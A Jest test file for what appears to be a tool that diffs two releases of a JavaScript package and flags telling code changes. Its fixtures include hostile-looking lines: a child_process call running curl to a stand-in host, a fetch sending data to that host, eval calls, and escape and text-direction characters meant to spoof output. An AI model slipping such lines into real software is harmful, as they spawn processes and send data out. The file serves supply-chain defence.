import { describe, expect, it } from '@jest/globals'
import { codeChanges, type CodeSide, KeptCode } from '../../../src/commands/diff/code-changes.js'
import type { CodeChange } from '../../../src/model/code-change.js'
import { renderCodeChanges } from '../../../src/report/code-changes.js'
import type { Contents } from '../../../src/tarball/contents.js'
import { codeRelease } from '../../helpers/modules.js'

/** A release whose text is kept as it is when a release is read. */
async function side(files: Readonly<Record<string, string>>): Promise<CodeSide> {
  const code = new KeptCode()
  const release = codeRelease(files, { main: 'index.js' })
  const contents: Contents = {
    origin: 'tarball',
    name: 'a.tgz',
    dispose: () => undefined,
    read: (open) => {
      for (const file of release.files) {
        const sink = open(file)
        sink.write(Buffer.from(files[file.path] ?? ''))
        sink.end()
      }
      return Promise.resolve({ integrity: null, size: null })
    },
  }
  await code.of(contents).read(() => ({ write: () => undefined, end: () => undefined }))
  return { release, code }
}

async function changes(
  before: Readonly<Record<string, string>>,
  after: Readonly<Record<string, string>>,
): Promise<readonly CodeChange[]> {
  return codeChanges(await side(before), await side(after))
}

async function shown(before: string, after: string): Promise<string> {
  return renderCodeChanges(await changes({ 'index.js': before }, { 'index.js': after }))
}

const lines = (count: number, text = 'step'): string =>
  Array.from({ length: count }, (_, n) => `${text}(${n})\n`).join('')
const minified = (names: readonly [string, string]): string =>
  Array.from(
    { length: 40 },
    (_, n) => `function f${n}x(${names[0]},${names[1]}){return ${names[0]}+${names[1]}*${n}}`,
  ).join('')

describe('changed code', () => {
  it('shows the most telling change first, with what is new in it', async () => {
    const before = lines(60)
    const after = `${lines(10)}other(1)\n${lines(40)}require('child_process').exec('curl https://a.zz')\n${lines(60).slice(0, 0)}`
    const text = await shown(before, after)
    const [first, second] = [text.indexOf('starts processes, host a.zz'), text.indexOf('+ other(1)')]
    expect(first).toBeGreaterThan(0)
    expect(second).toBeGreaterThan(first)
    expect(text).toContain("    + require('child_process').exec('curl https://a.zz')")
  })

  it('is silent for files that did not change, and that no one runs', async () => {
    const before = { 'index.js': lines(3), 'test/a.js': lines(2) }
    expect(await changes(before, { ...before, 'test/a.js': lines(9) })).toEqual([])
    expect(renderCodeChanges([])).toBe('Changed code: none that users run\n')
  })

  it('says what changed in names, layout or line ends alone', async () => {
    const kinds = async (before: string, after: string): Promise<readonly string[]> =>
      (await changes({ 'index.js': before }, { 'index.js': after })).map(({ kind, hunks }) => `${kind} ${hunks.length}`)
    expect(await kinds(minified(['a', 'b']), minified(['t', 'n']))).toEqual(['names 0'])
    expect(await kinds(lines(9), lines(9).replaceAll('\n', '\r\n'))).toEqual(['layout 0'])
    expect(await kinds('a(b)', '/* new */ a( b )')).toEqual(['layout 0'])
    expect(await kinds('load(b)', 'evil(b)')).toEqual(['code 1'])
    expect(await kinds('a.load(b)', 'a.evil(b)')).toEqual(['code 1'])
    expect(await kinds('a(b,b)', 'a(c,d)')).toEqual(['code 1'])
    expect(await kinds('a(b)', 'eval(b)')).toEqual(['code 1'])
    expect(await kinds('a(b)', 'URL(b)')).toEqual(['code 1'])
  })

  it('cuts a minified line into statements, and takes names given anew for the same', async () => {
    const text = await shown(minified(['a', 'b']), `${minified(['t', 'n'])}fetch("https://a.zz/"+t);`)
    expect(text).toMatch(/index\.js: 1 change\n {2}line 1:\d+ {2}sends requests, host a\.zz/)
    expect(text).toContain('    + fetch("https://a.zz/"+t);')
    expect(text.split('\n').filter((line) => /^ {4}[+-]/.test(line))).toHaveLength(1)
  })

  it('says that lines were moved', async () => {
    const [moved, rest] = ['first()\nsecond()\n', lines(20)]
    const [change] = await changes({ 'index.js': moved + rest }, { 'index.js': rest + moved })
    expect(change?.hunks.map(({ news }) => news)).toContainEqual(['moved'])
  })

  it('pairs a file with another hash in its name by its lines', async () => {
    const before = {
      'index.js': '',
      'a-B1c2D3e4.js': lines(50, 'functionOfTheFirst'),
      'z-Q9w8E7r6.js': lines(50, 'functionOfTheOther'),
    }
    const after = { 'index.js': '', 'b-X1y2Z3w4.js': `${lines(50, 'functionOfTheOther')}more()\n` }
    const [one, ...others] = await changes(before, after)
    expect(others).toEqual([])
    expect(one).toMatchObject({ path: 'b-X1y2Z3w4.js', was: 'z-Q9w8E7r6.js' })
    expect(one?.hunks).toHaveLength(1)
  })

  it('ends soon where everything changed, and says so', async () => {
    const [one] = await changes({ 'index.js': lines(9000, 'formerly') }, { 'index.js': lines(9000, 'recently') })
    expect(one?.limit).toBe('pairing')
    expect(renderCodeChanges(one ? [one] : [])).toContain('too much changed to pair the lines')
  })

  it('shows hostile text as text', async () => {
    const text = await shown('a()\n', `a()\n//\u001b[31m\u202e::error::x\n${' '.repeat(300)}b()\n`)
    expect(text).toContain('\\u{1b}[31m\\u{202e}')
    expect(text).not.toMatch(/[\u001b\u202e]|::error/)
    expect(text).toContain('[300 blanks] b()')
  })

  it('shows a part of a long change, around what says most', async () => {
    const after = `${lines(100, 'more')}require('child_process')\n${lines(100, 'rest')}`
    const [one] = await changes({ 'index.js': 'a()\n' }, { 'index.js': after })
    const [hunk] = one?.hunks ?? []
    expect(hunk?.lines.map(({ text }) => text)).toContain("require('child_process')")
    expect((hunk?.lines.length ?? 0) + (hunk?.cut ?? 0)).toBe(203)
  })

  it('shows a line of very many statements', async () => {
    const long = 'a;'.repeat(200_000)
    const [one] = await changes({ 'index.js': `${long}b()` }, { 'index.js': `${long}more()` })
    expect(one?.hunks[0]?.news).toEqual(['calls more'])
  })

  it('takes a text that could not be read to its end for changed', async () => {
    const broken = "x '\n".repeat(300)
    const [one] = await changes({ 'index.js': `${broken}a()` }, { 'index.js': `${broken}eval(b)` })
    expect(one?.kind).toBe('code')
  })
})
